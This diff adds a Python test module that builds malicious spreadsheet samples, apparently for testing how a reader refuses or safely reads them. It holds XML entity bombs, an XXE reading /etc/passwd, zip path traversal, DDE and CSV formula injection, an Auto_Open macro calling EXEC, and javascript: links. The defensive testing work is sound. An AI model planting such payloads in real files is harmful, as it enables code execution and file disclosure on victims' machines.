@@ -1,0 +1,438 @@
+"""Returned files that mean harm, one for each way known to us, and what must come of each: `refused` or `read`.
+
+None comes with a password, a macro or a link that works; each is written in a moment and small on the disk.
+"""
+
+import os
+import random
+import socket
+import struct
+import zipfile
+from collections.abc import Callable, Mapping
+from pathlib import Path
+
+import openpyxl
+from openpyxl.worksheet.hyperlink import Hyperlink
+from reading_builders import (
+    BOOK,
+    FONT,
+    MAIN,
+    STRINGS,
+    STYLES,
+    TYPES,
+    encrypted_xls,
+    ole,
+    raw_book,
+    raw_ods,
+    sheet_xml,
+    zipped,
+)
+
+from xlcore.domain.findings import letters
+
+Maker = Callable[[Path], object]
+ONE = '<row r="1"><c r="A1"><v>1</v></c></row>'
+REFUSED, READ = "refused", "read"
+OUTSIDE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def cells(more: str, **parts: str) -> Maker:
+    """A workbook with 1 in A1 and these rows below."""
+    return lambda path: raw_book(path, sheet_xml(ONE + more), **parts)
+
+
+def beside(cell: str, **parts: str) -> Maker:
+    """A workbook with 1 in A1 and this cell beside it."""
+    return lambda path: raw_book(path, sheet_xml(ONE.replace("</row>", f"{cell}</row>")), **parts)
+
+
+def after(xml: str) -> Maker:
+    """A workbook with something behind its cells."""
+    return lambda path: raw_book(path, sheet_xml(ONE, after=xml))
+
+
+def content(data: bytes) -> Maker:
+    """A file of these bytes."""
+    return lambda path: path.write_bytes(data)
+
+
+def changed(name: str, change: Callable[[bytes], bytes]) -> Maker:
+    """A good workbook with one part put through `change`."""
+
+    def make(path: Path) -> None:
+        raw_book(path, sheet_xml(ONE))
+        with zipfile.ZipFile(path) as old:
+            parts = {one: old.read(one) for one in old.namelist()}
+        parts[name] = change(parts.get(name, b""))
+        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
+            for one, data in parts.items():
+                new.writestr(one, data)
+
+    return make
+
+
+def patched(change: Callable[[bytearray], object]) -> Maker:
+    """A good workbook with some of its bytes changed."""
+
+    def make(path: Path) -> None:
+        data = bytearray(raw_book(path, sheet_xml(ONE)).read_bytes())
+        change(data)
+        path.write_bytes(data)
+
+    return make
+
+
+def named(*names: str) -> Maker:
+    """A good workbook with more parts of these names."""
+
+    def make(path: Path) -> None:
+        raw_book(path, sheet_xml(ONE))
+        with zipfile.ZipFile(path, "a") as package:
+            for name in names:
+                package.writestr(name, b"x")
+
+    return make
+
+
+def ods(rows: str) -> Maker:
+    """An .ods of these rows."""
+    return lambda path: raw_ods(path, rows)
+
+
+def strings(sst: str, cell: str = '<c r="B1" t="s"><v>0</v></c>') -> Maker:
+    """A workbook with this table of strings."""
+    return beside(cell, strings=sst)
+
+
+def sheets(count: int) -> Maker:
+    """A workbook whose list names the one sheet many times."""
+    tags = "".join(f'<sheet name="S{number}" sheetId="{number}" r:id="r1"/>' for number in range(2, count + 1))
+    return cells("", workbook=(BOOK % ("", "")).replace("</sheets>", f"{tags}</sheets>"))
+
+
+def far_xls(path: Path) -> None:
+    """The two corners of an old workbook."""
+    from xlcore.demo.mistakes.xls import _record  # noqa: PLC0415 - one sample needs it
+
+    def number(row: int, column: int) -> bytes:
+        return _record(0x203, struct.pack("<3Hd", row, column, 0, 1.0))
+
+    def bof(kind: int) -> bytes:
+        return _record(0x809, struct.pack("<4H2I", 0x600, kind, 0x1FAA, 0x7CD, 0, 6))
+
+    leaf = bof(0x10) + number(0, 0) + number(65_535, 255) + _record(0x0A, b"")
+    bound = _record(0x85, struct.pack("<IHBB", 0, 0, 1, 0) + b"S")
+    start = len(bof(5) + bound + _record(0x0A, b""))
+    bound = _record(0x85, struct.pack("<IHBB", start, 0, 1, 0) + b"S")
+    compound(path, bof(5) + bound + _record(0x0A, b"") + leaf)
+
+
+def compound(path: Path, stream: bytes) -> None:
+    """A compound file with one stream `Workbook` of at least 4096 bytes."""
+    stream = stream.ljust(-(-max(len(stream), 4096) // 512) * 512, b"\0")
+    data = bytearray(ole(path, "Workbook").read_bytes())
+    last = 3 + len(stream) // 512
+    chain = [*range(3, last), 0xFFFFFFFE]
+    data[512 + 8 : 512 + 8 + 4 * len(chain)] = struct.pack(f"<{len(chain)}I", *chain)
+    data[1024 + 76 : 1024 + 80] = struct.pack("<I", 1)
+    data[1024 + 128 + 116 : 1024 + 256] = struct.pack("<IQ", 2, len(stream))
+    path.write_bytes(bytes(data) + stream)
+
+
+def lying_xls(at: int) -> Maker:
+    """A compound file whose head announces four milliards of sectors."""
+
+    def make(path: Path) -> None:
+        data = bytearray(encrypted_xls(path).read_bytes())
+        data[at : at + 4] = b"\xf0\xff\xff\xff"
+        path.write_bytes(data)
+
+    return make
+
+
+def many_links(path: Path) -> None:
+    """Hyperlinks over the whole sheet, some to places that no link of ours may lead to."""
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet["A1"] = 1
+    for number in range(1, 20_000):
+        sheet._hyperlinks.append(Hyperlink(ref="A1:XFD1048576", location=f"S!A{number}", display="x"))  # noqa: SLF001
+    sheet["A2"] = "javascript:alert(1)"
+    sheet["A2"].hyperlink = "javascript:alert(1)"
+    sheet["A3"] = "file"
+    sheet["A3"].hyperlink = "file:///C:/Windows/System32/calc.exe"
+    book.save(path)
+
+
+def overlapping(path: Path) -> None:
+    """Many entries that all unpack the same bytes."""
+    data = bytearray(raw_book(path, sheet_xml(ONE)).read_bytes())
+    end = data.rfind(b"PK\x05\x06")
+    start = int.from_bytes(data[end + 16 : end + 20], "little")
+    first = data[start : data.find(b"PK\x01\x02", start + 4)]
+    length = int.from_bytes(first[28:30], "little")
+    copies = b"".join(first[:46] + b"%0*d" % (length, number) + first[46 + length :] for number in range(200))
+    count = int.from_bytes(data[end + 10 : end + 12], "little") + 200
+    data[end + 8 : end + 12] = struct.pack("<2H", count, count)
+    data[end + 12 : end + 16] = struct.pack("<I", end - start + len(copies))
+    path.write_bytes(data[:end] + copies + data[end:])
+
+
+def duplicate(path: Path) -> None:
+    """Two parts that are one name in capitals and small letters: readers would differ on which counts."""
+    raw_book(path, sheet_xml(ONE))
+    with zipfile.ZipFile(path, "a") as package:
+        package.writestr("XL/Worksheets/First.xml", sheet_xml('<row r="1"><c r="A1"><v>2</v></c></row>'))
+
+
+def bomb(part: str, text: str, times: int) -> Maker:
+    """A part that unpacks to far more than it is."""
+    return changed(part, lambda data: data[:20] + text.encode() * times + data[20:])
+
+
+def external(path: Path) -> None:
+    """A workbook that takes its number from another, by a link and by DDE."""
+    links = f'<externalReferences xmlns:r="{OUTSIDE}"><externalReference r:id="r9"/></externalReferences>'
+    dde = '<c r="B1"><f>[1]S!A1</f><v>7</v></c><c r="C1" t="str"><f>cmd|\'/c calc\'!A0</f><v>x</v></c>'
+    dde += '<c r="D1" t="str"><f>HYPERLINK("http://x.invalid?"&amp;A1,"Mở")</f><v>Mở</v></c>'
+    dde += '<c r="E1" t="str"><f>WEBSERVICE("http://x.invalid")</f><v>y</v></c>'
+    raw_book(path, sheet_xml(ONE.replace("</row>", f"{dde}</row>")), workbook=BOOK % ("", links))
+    with zipfile.ZipFile(path, "a") as package:
+        package.writestr(
+            "xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{MAIN}"><ddeLink/></externalLink>'
+        )
+
+
+def macro_sheet(path: Path) -> None:
+    """A workbook with a sheet of Excel 4 macros that starts when it opens."""
+    workbook = (BOOK % ("", "")).replace(
+        "</sheets>",
+        '<sheet name="M" sheetId="2" state="veryHidden" r:id="r7"/></sheets>'
+        '<definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames>',
+    )
+    raw_book(path, sheet_xml(ONE), workbook=workbook)
+    with zipfile.ZipFile(path) as old:
+        parts = {one: old.read(one).decode() for one in old.namelist()}
+    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
+        "</Relationships>", f'<Relationship Id="r7" Type="{kind}" Target="macrosheets/m.xml"/></Relationships>'
+    )
+    parts["xl/macrosheets/m.xml"] = sheet_xml('<row r="1"><c r="A1" t="str"><f>EXEC("calc")</f><v>9</v></c></row>')
+    zipped(path, parts)
+
+
+def special(make: Callable[[Path], object]) -> Maker:
+    """Something that is no regular file."""
+    return make
+
+
+def sparse(path: Path) -> None:
+    """Eight gigabytes of nothing that take no room on the disk."""
+    with path.open("wb") as file:
+        file.truncate(8 << 30)
+
+
+def unix_socket(path: Path) -> None:
+    """A socket; its path must be short, so it is made elsewhere and moved."""
+    short = Path("/tmp") / f"td{os.getpid()}"  # noqa: S108 - a socket's path may have 107 bytes
+    with socket.socket(socket.AF_UNIX) as made:
+        made.bind(str(short))
+    short.rename(path)
+
+
+DOCTYPE = (
+    '<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'
+)
+FILE_ENTITY = '<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+STYLED = STYLES % (FONT, '<xf fontId="0"/><xf numFmtId="14" fontId="0"/><xf numFmtId="46" fontId="99999"/>')
+WIDE = "".join(f'<c r="{letters(column)}%d"><v>1</v></c>' for column in range(1, 300))
+LONG = "x" * 32_000
+NOISE = "".join(random.Random(4).choices("abcđêôơư 0123456789", k=60_000))  # noqa: S311 - noise, no secret
+"""Longer than a packer looks back, so that repeating it packs no better."""
+BOMB_ROWS = "".join(
+    f'<row r="{row}">' + "".join(f'<c r="{letters(c)}{row}" t="s"><v>0</v></c>' for c in range(1, 26)) + "</row>"
+    for row in range(2, 4_000)
+)
+TALL_ODS = '<table:table-row table:number-rows-repeated="{}">{}</table:table-row>'
+ODS_CELL = '<table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="{}"/>'
+
+SAMPLES: Mapping[str, tuple[Maker, str]] = {
+    "far corner": (cells('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), REFUSED),
+    "far, style first": (cells('<row r="9"><c s="0" r="XFD1048576"><v>1</v></c></row>'), REFUSED),
+    "far, small letters": (cells('<row r="9"><c r="xfd1048576"><v>1</v></c></row>'), REFUSED),
+    "far, single quotes": (cells("<row r='9'><c r='XFD1048576'><v>1</v></c></row>"), REFUSED),
+    "far, many letters": (cells('<row r="9"><c r="ZZZZZZZ9"><v>1</v></c></row>'), REFUSED),
+    "far, many digits": (cells('<row r="9"><c r="A99999999999999999999"><v>1</v></c></row>'), REFUSED),
+    "far, by its row alone": (cells('<row r="1048576"><c><v>1</v></c></row>'), REFUSED),
+    "far, prefixed": (cells('<x:row xmlns:x="u" r="9"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>'), REFUSED),
+    "far, another child first": (cells('<row r="9"><c r="XFD1048576"><extLst/><v>1</v></c></row>'), REFUSED),
+    "wide and tall": (cells('<row r="90000"><c r="A90000"><v>1</v></c><c r="AZ9"><v>1</v></c></row>'), REFUSED),
+    "far formats only": (cells('<row r="1048576"><c r="XFD1048576" s="0"/></row>'), READ),
+    "row of no number": (cells('<row r="x"><c><v>1</v></c></row>'), REFUSED),
+    "lying dimension": (
+        lambda path: raw_book(path, sheet_xml(ONE, before='<dimension ref="A1:XFD1048576"/>')),
+        READ,
+    ),
+    "dimension of nothing": (lambda path: raw_book(path, sheet_xml(ONE, before='<dimension ref="?"/>')), REFUSED),
+    "merge over the whole sheet": (
+        after('<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
+        READ,
+    ),
+    "merges without number": (
+        after("<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 200_000 + "</mergeCells>"),
+        REFUSED,
+    ),
+    "hyperlinks over whole sheets": (many_links, READ),
+    "hidden columns without end": (
+        lambda path: raw_book(path, sheet_xml(ONE, before='<cols><col min="1" max="99999999" hidden="1"/></cols>')),
+        READ,
+    ),
+    "lying count of strings": (strings(STRINGS.replace("<sst", '<sst uniqueCount="4000000000"')), REFUSED),
+    "lying count, quoted otherwise": (strings(STRINGS.replace("<sst", "<sst uniqueCount = '999999999'")), REFUSED),
+    "lying count, far behind": (
+        strings(STRINGS.replace("<sst", f'<!--{"x" * 5000}--><sst uniqueCount="4000000000"')),
+        REFUSED,
+    ),
+    "lying count of many digits": (strings(STRINGS.replace("<sst", f'<sst uniqueCount="{"9" * 5000}"')), REFUSED),
+    "shared string out of range": (beside('<c r="B1" t="s"><v>99</v></c>'), REFUSED),
+    "shared string below zero": (beside('<c r="B1" t="s"><v>-1</v></c>'), REFUSED),
+    "style out of range": (beside('<c r="B1" s="4294967295"><v>2</v></c>'), READ),
+    "font out of range": (beside('<c r="B1" s="2"><v>2</v></c>', styles=STYLED), READ),
+    "number NaN": (beside('<c r="B1"><v>NaN</v></c>'), READ),
+    "number INF": (beside('<c r="B1"><v>-INF</v></c>'), READ),
+    "number 1e400": (beside('<c r="B1"><v>1e400</v></c>'), READ),
+    "day 1e400": (beside('<c r="B1" s="1"><v>1e400</v></c>', styles=STYLED), READ),
+    "duration 1e300": (beside('<c r="B1" s="2"><v>1e300</v></c>', styles=STYLED), REFUSED),
+    "type of no kind": (beside('<c r="B1" t="zz"><v>7</v></c>'), REFUSED),
+    "escaped NUL": (beside('<c r="B1" t="inlineStr"><is><t>a_x0000_b_x001B_[31mc</t></is></c>'), READ),
+    "real NUL": (beside('<c r="B1" t="str"><v>a\0b</v></c>'), READ),
+    "NUL by number": (beside('<c r="B1" t="str"><v>&#0;</v></c>'), REFUSED),
+    "half a character": (beside('<c r="B1" t="str"><v>&#xD800;</v></c>'), REFUSED),
+    "cell of twenty million characters": (beside(f'<c r="B1" t="inlineStr"><is><t>{NOISE * 334}</t></is></c>'), READ),
+    "digits without end": (beside(f'<c r="B1" t="str"><v>{"9" * 30_000}</v></c>'), READ),
+    "one string in very many cells": (
+        cells(BOMB_ROWS, strings=f'<sst xmlns="{MAIN}"><si><t>{LONG}</t></si></sst>'),
+        REFUSED,
+    ),
+    "sheet bomb": (sheets(3_000), REFUSED),
+    "sheets without number": (sheets(120_000), REFUSED),
+    "bomb in the sheet": (bomb("xl/worksheets/first.xml", " ", 90_000_000), REFUSED),
+    "bomb in a part nobody reads": (bomb("xl/theme/theme1.xml", " ", 90_000_000), REFUSED),
+    "overlapping entries": (overlapping, REFUSED),
+    "duplicate entries": (duplicate, REFUSED),
+    "entries without number": (named(*(f"x{number}" for number in range(5_000))), REFUSED),
+    "name that climbs": (named("../../../tmp/x"), REFUSED),
+    "name that climbs, backwards": (named("..\\..\\x"), REFUSED),
+    "name from the root": (named("/etc/x", "C:/x"), READ),
+    "name with strange letters": (named("xl/\u202egnp.exe", "xl/a\nb"), READ),
+    "DOCTYPE in a sheet": (changed("xl/worksheets/first.xml", lambda xml: DOCTYPE.encode() + xml), REFUSED),
+    "entity bomb in the strings": (
+        strings(DOCTYPE + STRINGS.replace("chữ", "&c;&c;&c;&c;")),
+        REFUSED,
+    ),
+    "file by an entity": (strings(FILE_ENTITY + STRINGS.replace("chữ", "&x;")), REFUSED),
+    "DOCTYPE in the types": (changed("[Content_Types].xml", lambda xml: DOCTYPE.encode() + xml), REFUSED),
+    "DOCTYPE in the relations": (changed("_rels/.rels", lambda xml: DOCTYPE.encode() + xml), REFUSED),
+    "DOCTYPE in UTF-16": (
+        changed("xl/workbook.xml", lambda xml: (DOCTYPE + xml.decode()).encode("utf-16-le")),
+        REFUSED,
+    ),
+    "UTF-16": (changed("xl/worksheets/first.xml", lambda xml: xml.decode().encode("utf-16")), REFUSED),
+    "XML cut off": (changed("xl/workbook.xml", lambda xml: xml[: len(xml) // 2]), REFUSED),
+    "XML nested very deep": (cells("<a>" * 500_000 + "</a>" * 500_000), READ),
+    "no parts but the types": (lambda path: zipped(path, {"[Content_Types].xml": TYPES}), REFUSED),
+    "relation to nowhere": (changed("xl/_rels/workbook.xml.rels", lambda xml: xml.replace(b"first", b"x")), REFUSED),
+    "relation that climbs": (
+        changed("xl/_rels/workbook.xml.rels", lambda xml: xml.replace(b"worksheets/", b"../../../../etc/")),
+        REFUSED,
+    ),
+    "external links, DDE, HYPERLINK": (external, READ),
+    "sheet of macros": (macro_sheet, REFUSED),
+    "encrypted entry": (patched(lambda data: data.__setitem__(data.rfind(b"PK\x01\x02") + 8, 1)), REFUSED),
+    "unknown packing": (patched(lambda data: data.__setitem__(data.rfind(b"PK\x01\x02") + 10, 14)), REFUSED),
+    "entry beyond the end": (
+        patched(
+            lambda data: data.__setitem__(
+                slice(data.rfind(b"PK\x01\x02") + 42, data.rfind(b"PK\x01\x02") + 46), b"\xff" * 4
+            )
+        ),
+        REFUSED,
+    ),
+    "directory elsewhere": (patched(lambda data: data.__setitem__(data.rfind(b"PK\x05\x06") + 16, 0)), REFUSED),
+    "encrypted": (lambda path: ole(path, "EncryptedPackage"), REFUSED),
+    "encrypted .xls": (encrypted_xls, REFUSED),
+    "far corners of an .xls": (far_xls, REFUSED),
+    "lying FAT of an .xls": (lying_xls(44), REFUSED),
+    "lying small FAT of an .xls": (lying_xls(64), REFUSED),
+    "lying DIFAT of an .xls": (lying_xls(72), REFUSED),
+    ".xls of zeros": (lambda path: compound(path, b""), REFUSED),
+    ".xls of noise": (lambda path: compound(path, bytes(range(256)) * 64), REFUSED),
+    ".ods, far": (ods(TALL_ODS.format(1_048_576, ODS_CELL.format(16_384))), REFUSED),
+    ".ods, wide and tall": (ods(TALL_ODS.format(90_000, ODS_CELL.format(1_900))), REFUSED),
+    ".ods, rows upon rows": (ods(TALL_ODS.format(99_999, ODS_CELL.format(1)) * 60), REFUSED),
+    ".ods, empty rows without end": (
+        ods(TALL_ODS.format(1, ODS_CELL.format(1)) + TALL_ODS.format(10**9, "<table:table-cell/>")),
+        READ,
+    ),
+    ".ods, hidden rows without end": (
+        ods(
+            TALL_ODS.format(1, ODS_CELL.format(1))
+            + '<table:table-row table:visibility="collapse" table:number-rows-repeated="99999"/>' * 2_000
+        ),
+        READ,
+    ),
+    ".ods, repeated no times": (ods(TALL_ODS.format("x", ODS_CELL.format("-7"))), REFUSED),
+    ".ods, spanned no times": (
+        ods(TALL_ODS.format(1, ODS_CELL.format(1).replace("/>", ' table:number-columns-spanned="x"/>'))),
+        READ,
+    ),
+    ".ods with a DOCTYPE": (
+        lambda path: zipped(
+            path,
+            {
+                "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
+                "META-INF/manifest.xml": "<manifest/>",
+                "content.xml": f"{DOCTYPE}<x>&c;</x>",
+            },
+        ),
+        REFUSED,
+    ),
+    "csv": (content("Mã;Tên\n=cmd|' /C calc'!A0;x\n".encode()), REFUSED),
+    "html": (content(b"<html><script>alert(1)</script></html>"), REFUSED),
+    "pdf": (content(b"%PDF-1.7\n"), REFUSED),
+    "docx": (lambda path: zipped(path, {"[Content_Types].xml": "<Types/>", "word/document.xml": "<x/>"}), REFUSED),
+    "program": (content(b"MZ" + bytes(100)), REFUSED),
+    "truncated": (
+        patched(lambda data: data.__delitem__(slice(len(data) // 2, None))),
+        REFUSED,
+    ),
+    "empty": (content(b""), REFUSED),
+    "zip of nothing": (content(b"PK\x05\x06" + bytes(18)), REFUSED),
+    "zeros": (content(bytes(4096)), REFUSED),
+}
+
+ODDITIES: Mapping[str, Maker] = {
+    "folder": Path.mkdir,
+    "link": lambda path: path.symlink_to("/etc/passwd"),
+    "link to itself": lambda path: path.symlink_to(path.name),
+    "link to a device": lambda path: path.symlink_to("/dev/zero"),
+    "pipe": os.mkfifo,
+    "socket": unix_socket,
+    "huge and empty": sparse,
+}
+"""What is no file of a unit at all; only systems with links and pipes can make them."""
+
+
+def make_all(folder: Path) -> dict[Path, str]:
+    """Write every sample into the folder; give what must come of each."""
+    folder.mkdir(exist_ok=True)
+    made = {}
+    for number, (maker, outcome) in enumerate(SAMPLES.values(), 1):
+        path = folder / f"{number:03}.xlsx"
+        maker(path)
+        made[path] = outcome
+    if os.name != "nt":
+        for number, make in enumerate(ODDITIES.values(), 1):
+            make(folder / f"x{number}.xlsx")
+            made[folder / f"x{number}.xlsx"] = REFUSED
+    return made
